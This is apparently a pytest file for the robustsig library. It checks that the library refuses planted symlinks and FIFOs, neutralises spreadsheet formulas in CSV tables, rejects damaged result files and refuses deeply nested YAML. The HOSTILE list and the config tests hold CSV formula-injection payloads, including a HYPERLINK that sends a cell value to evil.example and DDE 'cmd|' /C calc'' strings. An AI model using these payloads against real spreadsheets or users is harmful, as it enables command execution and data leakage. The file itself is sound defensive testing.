"""Hostile outputs and tables (issue 21, the campaign of 2026-12-07): links planted where robustsig writes in place
(a store's ``.lock``, ``results/run.log``), file modes of every writer, spreadsheet formulas and line breaks in the
names written to results and report tables, results tables replaced by folders and link loops, damaged tables read
by ``predict-er`` (non-UTF-8 bytes, repeated rows, out-of-range values), degenerate signatures and deeply nested
YAML."""

from __future__ import annotations

import csv
import io
import math
import os
import stat
from pathlib import Path

import numpy as np
import pytest
import torch

import robustsig as rs
from robustsig._atomic import atomic_output
from robustsig._cells import FORMULA_STARTS
from robustsig.metrics.erpredict import loo_monotone, loo_ridge
from robustsig.report.tables import ReportTable, to_csv, to_markdown
from robustsig.study.analyses.accuracy import AccuracyRow, RobustnessRow
from robustsig.study.analyses.concepts.summary import ConceptRow, ConceptTopRow, VennRow
from robustsig.study.analyses.kurtosis import KurtosisRow
from robustsig.study.results import ModelRow, Results
from robustsig.study.runlog import RunLog

from cli_helpers import run_cli
from extract_helpers import image_folder, tiny_classifier
from hang_guard import deadline

pytestmark = pytest.mark.usefixtures("one_thread")

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "'already quoted", "''", "-", "+"]


def spreadsheet_safe(text: str) -> bool:
    """Whether no cell of a CSV text starts with a character that makes a spreadsheet run it (a plain number may)."""
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    return False
    return True


# --- symbolic links and FIFOs where robustsig writes in place ------------------------------------------------
@pytest.mark.parametrize("planted", ["link", "fifo"])
def test_a_link_or_fifo_planted_at_a_store_lock_is_refused(tmp_path, planted):
    dataset = image_folder(tmp_path / "images", 4)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    store = tmp_path / "store"
    store.mkdir()
    if planted == "link":
        (store / ".lock").symlink_to(victim)
    else:
        os.mkfifo(store / ".lock")
    expected = r"a symbolic link \(to .*victim\.txt\)" if planted == "link" else "a FIFO"
    with deadline(30), pytest.raises(rs.InputError, match=rf"\.lock is {expected}, not a regular file"):
        rs.extract(tiny_classifier(), dataset, store, batch_size=4, num_workers=0, progress=False)
    assert victim.read_text() == "precious\n"  # the lock used to truncate the link's target
    assert not (store / "manifest.json").exists()


@pytest.mark.parametrize("planted", ["link", "fifo"])
def test_a_link_or_fifo_planted_at_run_log_is_refused(tmp_path, planted):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    log = tmp_path / "results" / "run.log"
    log.parent.mkdir()
    if planted == "link":
        log.symlink_to(victim)
    else:
        os.mkfifo(log)  # opening it for writing used to block for ever
    with deadline(30), pytest.raises(rs.InputError, match=r"run\.log is (a symbolic link|a FIFO)"):
        RunLog(log, echo=False).line("step", "model", "done")
    assert victim.read_text() == "precious\n"


def test_a_study_run_refuses_a_planted_run_log_link(tmp_path, capsys):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    image_folder(tmp_path / "photos", 4)
    (tmp_path / "out" / "results").mkdir(parents=True)
    (tmp_path / "out" / "results" / "run.log").symlink_to(victim)
    (tmp_path / "study.yaml").write_text(
        "output_dir: out\nstore_dir: store\ndevice: cpu\nworkers: 0\n"
        "models: [{name: m, spec: 'timm:test_resnet', backbone: r, pretraining: p, kind: supervised}]\n"
        "datasets: {id: {kind: folder, root: photos}}\nanalyses: {accuracy: null}\n")
    code, _, err = run_cli(capsys, "study", "run", str(tmp_path / "study.yaml"))
    assert code == 2 and "run.log is a symbolic link" in err and "Traceback" not in err
    assert victim.read_text() == "precious\n"


# --- file modes: one rule for every writer -------------------------------------------------------------------
@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_every_writer_gives_its_files_the_umask_mode(tmp_path, umask):
    from robustsig.models.zeroshot import _write_cached

    classifier = rs.load_classifier("timm:test_resnet", device="cpu")
    previous = os.umask(umask)
    try:
        # lowrank --save, wiseft and finetune's model.safetensors all go through save_classifier
        rs.save_classifier(classifier, tmp_path / "model.safetensors")
        rs.save_classifier(classifier, tmp_path / "model.pt")
        _write_cached(tmp_path / "head.safetensors", torch.ones(3, 4), torch.zeros(3))  # the zero-shot cache
        with atomic_output(tmp_path / "other.bin") as temporary:  # a writer that makes its file private
            temporary.write_bytes(b"x")
            os.chmod(temporary, 0o600)
    finally:
        os.umask(previous)
    modes = {name: stat.S_IMODE((tmp_path / name).stat().st_mode)
             for name in ("model.safetensors", "model.pt", "head.safetensors", "other.bin")}
    assert modes == dict.fromkeys(modes, 0o666 & ~umask)


# --- spreadsheet formulas and line breaks in tables ----------------------------------------------------------
def test_results_tables_neutralise_formulas_and_read_back_the_same_values(tmp_path):
    results = Results(tmp_path)
    models = [ModelRow(f"m{i}", "timm:test_resnet", text, text, "zero-shot") for i, text in enumerate(HOSTILE)]
    models.append(ModelRow("plain", "timm:test_resnet", "ViT-B-32", "-0.5", "supervised"))
    concepts = [ConceptTopRow("m0", "singular", 0, rank, text, "object", 0.9) for rank, text in enumerate(HOSTILE)]
    venn = [VennRow("m0", "singular", text, text) for text in HOSTILE]
    for table, rows in ((ModelRow, models), (ConceptTopRow, concepts), (VennRow, venn)):
        results.write(table, rows)
        text = results.path(table).read_text()
        assert spreadsheet_safe(text), text
        assert results.read(table) == rows  # the apostrophe is removed on reading: a round trip
    assert "plain,timm:test_resnet,ViT-B-32,-0.5,supervised" in results.path(ModelRow).read_text()


def test_report_csv_neutralises_formulas_and_keeps_numbers():
    table = ReportTable("t", "title", ("Backbone", "Pretraining"), (("Zero-shot", ("ER (%)", "Concept")),),
                        tuple((text, "tag", "+1.5", text) for text in HOSTILE) + (("RN50", "openai", "-2.0", "sky"),))
    text = to_csv(table)
    assert spreadsheet_safe(text)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["'" + HOSTILE[0], "tag", "+1.5", "'" + HOSTILE[0]]
    assert rows[-1] == ["RN50", "openai", "-2.0", "sky"]  # numbers and plain names as they were


def test_a_line_break_in_a_tag_never_breaks_a_markdown_table():
    rows = (("RN50", "open\nai", "1.0"), ("RN50", "laion\r\n2b|x", "2.0"), ("RN50", "tab\there\u2028", "3.0"))
    markdown = to_markdown(ReportTable("t", "title", ("Backbone", "Pretraining"), (("", ("Kurtosis",)),), rows))
    lines = markdown.splitlines()
    assert len(lines) == 2 + len(rows)  # one line per row
    assert lines[2] == "| RN50 | open\\\\nai | 1.0 |"
    assert lines[3] == "|  | laion\\\\r\\\\n2b\\|x | 2.0 |" and "\\\\u2028" in lines[4]


def config_data(**model) -> dict:
    entry = {"name": "m", "spec": "timm:test_resnet", "backbone": "RN50", "pretraining": "openai",
             "kind": "supervised", **model}
    return {"output_dir": "out", "store_dir": "store", "models": [entry],
            "datasets": {"id": {"kind": "folder", "root": "photos"}},
            "analyses": {"accuracy": None}}


@pytest.mark.parametrize(("field", "value"), [("backbone", "=HYPERLINK(\"http://x\")"), ("backbone", "+cmd|x"),
                                              ("pretraining", "@SUM(A1)"), ("pretraining", "-rm"),
                                              ("pretraining", "open\nai"), ("backbone", "RN\t50"),
                                              ("spec", "timm:test_resnet\n")])
def test_the_study_config_refuses_formulas_and_control_characters_in_labels(field, value):
    from robustsig.study.config import validate_study_config

    with pytest.raises(rs.InputError, match=rf"models\[0\]\.{field}: expected a .*without control characters"):
        validate_study_config(config_data(**{field: value}), source="study.yaml")
    validate_study_config(config_data(backbone="ViT-B-32", pretraining="laion2b_s34b_b79k"))  # ordinary labels pass


# --- results tables that are not files -----------------------------------------------------------------------
@pytest.mark.parametrize("what", ["folder", "loop", "dangling", "fifo"])
def test_a_results_table_replaced_by_a_folder_or_link_is_named(tmp_path, what):
    results = Results(tmp_path)
    path = results.path(AccuracyRow)
    if what == "folder":
        path.mkdir()
    elif what == "loop":
        path.symlink_to(path)
    elif what == "dangling":
        path.symlink_to(tmp_path / "gone.csv")
    else:
        os.mkfifo(path)
    expected = {"folder": "a folder", "loop": "a symbolic link loop", "dangling": "a symbolic link to nothing",
                "fifo": "a FIFO"}[what]
    with deadline(30), pytest.raises(rs.DataError, match=rf"accuracy\.csv is {expected}.*not a results table"):
        results.has(AccuracyRow)
    with deadline(30), pytest.raises(rs.DataError, match=rf"accuracy\.csv is {expected}"):
        results.read(AccuracyRow)
    assert not Results(tmp_path / "new").has(AccuracyRow)  # a table never written is simply absent


# --- damaged tables that predict-er reads --------------------------------------------------------------------
def planted(root: Path, models: int = 6) -> Results:
    """A results folder whose ER rises with kurtosis."""
    results = Results(root)
    names = [f"m{i}" for i in range(models)]
    kurtosis = np.linspace(3.0, 60.0, models)
    er = 0.3 * (1 - np.exp(-(kurtosis - 3) / 20))
    results.write(ModelRow, [ModelRow(n, "timm:test_resnet", "b", f"p{i}", "zero-shot") for i, n in enumerate(names)])
    results.write(RobustnessRow, [RobustnessRow(n, 0.7, 0.5 + e, float(e), 0.76, -1.49) for n, e in zip(names, er)])
    results.write(KurtosisRow, [KurtosisRow(n, "val", float(k), 100, 64) for n, k in zip(names, kurtosis)])
    results.write(ConceptRow, [ConceptRow(n, "singular", 64, 300, 100 + 7 * i, 2.0, 0.9, 2.0, "positive",
                                          100 + 7 * i, 2.0, 2.0, 110 + 7 * i, 2.5, 2.5)
                               for i, n in enumerate(names)])
    return results


def edit(path: Path, old: bytes, new: bytes) -> None:
    data = path.read_bytes()
    assert old in data
    path.write_bytes(data.replace(old, new, 1))


def test_predict_er_names_a_non_utf8_byte(tmp_path, capsys):
    results = planted(tmp_path / "results")
    edit(results.path(ModelRow), b"m1,", b"m\xff1,")
    code, _, err = run_cli(capsys, "predict-er", str(results.root))
    assert code == 2 and "Traceback" not in err and "UnicodeDecodeError" not in err
    assert "models.csv line 3: byte 0xff is not UTF-8 text" in err


def test_repeated_rows_are_refused_not_counted_as_more_models(tmp_path, capsys):
    results = planted(tmp_path / "results", models=3)
    for table in (ModelRow, RobustnessRow, KurtosisRow):  # 3 models appended twice more: 5 rows of 3 models
        lines = results.path(table).read_text().splitlines()
        results.path(table).write_text("\n".join(lines + lines[1:3]) + "\n")
    code, _, err = run_cli(capsys, "predict-er", str(results.root))
    assert code == 2 and "Traceback" not in err
    assert "models.csv lines 2 and 5 are both the row of model='m0'" in err
    with pytest.raises(rs.InputError, match=r"robustness\.csv rows 0 and 1 have the same model"):
        results.write(RobustnessRow, [RobustnessRow("a", 0.7, 0.5, 0.1, 0.76, -1.49)] * 2)


@pytest.mark.parametrize(("table", "old", "new", "message"), [
    (RobustnessRow, b"m0,0.7,0.5,0.0,", b"m0,0.7,0.5,1e308,", r"er: 1e\+308 is not an effective robustness"),
    (RobustnessRow, b"m0,0.7,", b"m0,1.5,", r"acc_id: 1.5 is not an accuracy"),
    (AccuracyRow, b"m,d,0.5,", b"m,d,-inf,", r"accuracy: -inf is not an accuracy"),
])
def test_accuracies_and_er_out_of_range_are_refused_when_read(tmp_path, capsys, table, old, new, message):
    results = planted(tmp_path / "results")
    results.write(AccuracyRow, [AccuracyRow("m", "d", 0.5, 10)])
    edit(results.path(table), old, new)
    with pytest.raises(rs.DataError, match=message):
        results.read(table)
    if table is RobustnessRow:
        code, _, err = run_cli(capsys, "predict-er", str(results.root))
        assert code == 2 and "robustness.csv line 2" in err and "Traceback" not in err
    results.write(RobustnessRow, [RobustnessRow("m", 0.7, 0.5, math.nan, 0.76, -1.49)])  # NaN: ER undefined
    assert math.isnan(results.read(RobustnessRow)[0].er)


def test_an_absurd_kurtosis_gives_bounded_predictions_not_a_traceback(tmp_path, capsys):
    results = planted(tmp_path / "results")
    rows = results.read(KurtosisRow)
    rows[3] = KurtosisRow("m3", "val", 1e308, 100, 64)
    rows[4] = KurtosisRow("m4", "val", 1e308, 100, 64)
    results.write(KurtosisRow, rows)
    code, out, err = run_cli(capsys, "predict-er", str(results.root), "--resamples", "50", "--write")
    assert code == 0, err
    from robustsig.study.analyses.predict_er import ErPredictionRow

    predicted = [row.predicted_er for row in results.read(ErPredictionRow)]
    assert predicted and all(-1.0 <= value <= 1.0 for value in predicted)


def test_near_equal_signatures_never_predict_an_er_outside_its_range():
    er = np.array([0.0, 0.05, 0.1, 0.12, 0.15, 0.2])
    near = np.array([3.0, 10.0, 10.0 + 1e-12, 20.0, 30.0, 40.0])
    predicted = loo_monotone(near, er)
    assert np.all(np.abs(predicted) <= 1.0)
    # the two near-equal models are one signature value: the held-out first model extrapolates along (3, 10)
    assert predicted[0] == pytest.approx(loo_monotone(np.array([3.0, 10.0, 10.0, 20.0, 30.0, 40.0]), er)[0])
    column = np.array([1.0, 1.0 + 1e-12, 1.0, 1.0, 1.0, 2.0])  # constant up to float noise, but the last model
    combined = loo_ridge(np.stack([np.linspace(0, 1, 6), column], axis=1), er)
    assert np.all(np.abs(combined) <= 1.0)
    reference = loo_ridge(np.stack([np.linspace(0, 1, 6), np.array([1.0, 1, 1, 1, 1, 2])], axis=1), er)
    np.testing.assert_allclose(combined, reference, rtol=1e-12, atol=1e-12)
    overflow = loo_ridge(np.stack([np.linspace(0, 1, 6), np.array([3.0, 4, 5, 1e308, 1e308, 6])], axis=1), er)
    assert np.all(np.isfinite(overflow)) and np.all(np.abs(overflow) <= 1.0)


# --- YAML -------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["[" * 100_000, "{a: " * 100_000, "- " * 100_000 + "x"])
def test_deeply_nested_yaml_is_refused_clearly(tmp_path, capsys, text):
    from robustsig._yaml import safe_load

    with pytest.raises(rs.InputError, match=r"bomb\.yaml is not valid YAML \(line 1, column \d+\): lists and "
                                            r"mappings nested more than 64 deep"):
        safe_load(text, "bomb.yaml")
    (tmp_path / "study.yaml").write_text(text)
    code, _, err = run_cli(capsys, "study", "validate", str(tmp_path / "study.yaml"))
    assert code == 2 and "nested more than 64 deep" in err and "RecursionError" not in err
    assert safe_load("[" * 60 + "]" * 60, "ok.yaml") is not None  # deep but sane nesting still reads
